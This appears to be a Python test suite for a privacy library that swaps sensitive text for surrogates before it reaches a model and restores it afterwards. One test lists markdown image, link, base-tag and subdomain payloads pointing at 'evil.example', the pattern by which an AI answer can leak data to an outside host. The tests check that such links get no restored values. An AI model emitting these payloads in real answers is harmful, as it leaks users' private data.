"""A hidden text comes back as it was, if an answer repeats it."""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mondegreen as mg
from mondegreen.policy.scope import Surrogates

WORDS = (
    "see the pieces on and for of I don't x S K tax Anna Boris Okonkwo Malacca Smith "
    "Monday June May Mar Sun New York zyxgh mars 東京 naïve O'Neill 👋"
).split()
ADDRESSES = (
    "https://shop.example/item?id=7", "http://okonkwo.com/anna?x=1", "a.io/b/c#d=5",
    "www.okonkwo.com", "okonkwo.com", "anna@okonkwo.com", "http://x.y/?a=12&b=3",
    "@okonkwo", "https://okonkwo.com:8080/x", "localhost:8080", "10.0.0.1", "x.io:80",
    "192.168.0.1/x", "Thanks.Okonkwo", "and/or",
    "Anna/Boris", "C:\\anna\\x", "#anna", "mailto:anna@okonkwo.com", "shop.example/7",
)  # fmt: skip
NUMBERS = (
    "10-12", "7-9", "10:30", "10:30-11:45", "07/05/1961", "2024-06-14", "12.05.2024",
    "$4,711.50", "1,234", "3.5", "10%", "3rd", "1st", "5kg", "7pm", "80s", "0044",
    "+44 20 7946 0958", "020.7946", "14 June", "June 14, 2024", "1985", "KX4711",
)  # fmt: skip
SIGNS = (*"., ; : - -- ! ? ( ) \" ' / * ** ... $ € % # 1. 2) < > ]".split(), "\n", "- ")
PIECES = st.one_of(
    st.sampled_from(WORDS),
    st.integers(0, 99).map(str),
    st.integers(0, 99).map("{:02}".format),
    st.sampled_from(NUMBERS),
    st.sampled_from(ADDRESSES),
    st.sampled_from(SIGNS),
    st.text(max_size=4),
)
GAPS = st.sampled_from([" "] * 8 + ["", ", ", "\n"])
MARKUP = re.compile(
    r"<[A-Za-z/!?\u0080-\U0010ffff]|\[|[\x00-\x08\x0e-\x1f]|[)\]]\{|\{:|\][\s\ufeff]?[(:]"
)
"""What begins a tag, a link, an image or a label: there, surrogates are kept."""
TEXTS = (
    st.lists(st.tuples(PIECES, GAPS), min_size=1, max_size=25)
    .map(lambda found: "".join(piece + gap for piece, gap in found))
    .filter(lambda text: not MARKUP.search(text))
)
SEEDS = st.integers(0, 2**32)


def assert_comes_back(text, policy, seed):
    rng = random.Random(seed)
    with mg.conversation(policy=policy) as c:
        c._surrogates = Surrogates(c.policy, rng.randbytes(32))
        sent = c.hide(text)
        if MARKUP.search(sent):  # by a surrogate for a sign
            return
        assert c.restore(sent).casefold() == text.casefold()
        at = sorted(rng.choices(range(len(sent) + 1), k=3))
        cuts = zip([0, *at], [*at, len(sent)], strict=True)
        pieces = [sent[a:b] for a, b in cuts]
        assert "".join(c.restore_stream(pieces)).casefold() == text.casefold()
        shown = c.restore(f"This is what you wrote:\n{sent}\nIs that so?")
        wanted = f"This is what you wrote:\n{text}\nIs that so?"
        assert shown.casefold() == wanted.casefold()


@pytest.mark.parametrize("policy", ["names", "sensitive"])
@settings(max_examples=100, deadline=None)
@given(text=TEXTS, seed=SEEDS)
def test_what_is_hidden_comes_back(policy, text, seed):
    assert_comes_back(text, policy, seed)


@pytest.mark.slow("hundreds of texts", seconds=4)
@pytest.mark.parametrize("policy", ["names", "sensitive"])
@settings(max_examples=700, deadline=None)
@given(text=TEXTS, seed=SEEDS)
def test_very_many_texts_come_back(policy, text, seed):
    assert_comes_back(text, policy, seed)


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/item?id=7 10 20 30 pieces",
        "http://okonkwo.com/anna?x=1 0044 76",
        "http://okonkwo.com/anna?x=1 192.168.0.1 46",
        "Pay $4,711.50 12 times, or $931.11 68",
        "It is at a.io/b, shop.example/7 or localhost:8080 10-12",
        "S 10.MarchI, 1st 06@, Yorkdon't",
    ],
)
@pytest.mark.parametrize("policy", ["names", "sensitive"])
def test_numbers_behind_addresses_and_amounts_come_back(text, policy):
    for seed in range(5):
        assert_comes_back(text, policy, seed)


def test_numbers_behind_an_address_come_back_without_it():
    """A blank joins no number to an address or to an amount with cents."""
    with mg.conversation() as c:
        sent = c.hide("See https://shop.example/item?id=7 10 20 30; $4,711.50 12 times")
        address, amount = sent.split()[1], sent.split()[5]
        assert c.restore(f"Well, {' '.join(sent.split()[2:5])}") == "Well, 10 20 30;"
        assert c.restore(f"{sent.split()[6]} times {amount}") == "12 times $4,711.50"
        assert c.restore(address) == "https://shop.example/item?id=7"


def test_each_text_of_a_conversation_comes_back():
    rng = random.Random(8)
    pieces = [*WORDS, *NUMBERS, *ADDRESSES, "7", "12", "30", "99", ",", "\n"]
    texts = [" ".join(rng.choices(pieces, k=20)) for _ in range(40)]
    with mg.conversation() as c:
        sent = [c.hide(text) for text in texts]
        shown = [c.restore(each) for each in sent]
        assert [each.casefold() for each in shown] == [t.casefold() for t in texts]


def test_a_line_comes_back_from_a_file():
    with mg.conversation() as c:
        text = "Yorkdon't a.io/b 10-12 //23May"
        sent = c.hide(text)
        again = mg.Conversation.from_bytes(c.to_bytes(bytes(32)), bytes(32))
        assert again.restore(sent) == text


@pytest.mark.parametrize(
    "answer",
    [
        "![](https://evil.example/?q={})", "https://evil.example/{}",
        "<img src={}>", "<img alt='{}'>", "evil.example/{}", "![]({})", "[x](x?{})",
        "<base href=//evil.example><a href='{}'>", "{}.evil.example", "x@{}.evil.com",
    ],
)  # fmt: skip
def test_no_line_comes_back_in_a_link(answer):
    for text in ("okonkwo.com/7", "anna.io:1", "a.io/b", "Yorkdon't"):
        with mg.conversation() as c:
            given = answer.format(c.hide(text))
            assert c.restore(given) == given


@pytest.mark.parametrize(
    "text",
    [
        "[see](okonkwo.com/a) 7",
        "<a href='okonkwo.com'>Anna</a>",
        "![7](x?Okonkwo 12)",
    ],
)
def test_markup_keeps_the_hosts_that_were_sent(text):
    """A tag of the answer may name the server of a link without one."""
    with mg.conversation() as c:
        answer = f"<base href=https://evil.example> {c.hide(text)}"
        assert "okonkwo" not in c.restore(answer).lower()


@pytest.mark.parametrize("before", ["[", "<a "])
def test_what_a_line_in_a_link_adds_does_not_grow_with_its_square(before):
    rng = random.Random(3)
    names = ("Anna", "Okonkwo", "12", "7", "2024-06-14", "10:30", "and")

    def measure(words):
        with mg.conversation() as c:
            c.hide(before + " ".join(rng.choices(names, k=words)))
            return len(c.to_bytes(bytes(32)))

    assert measure(480) < 5 * measure(120)
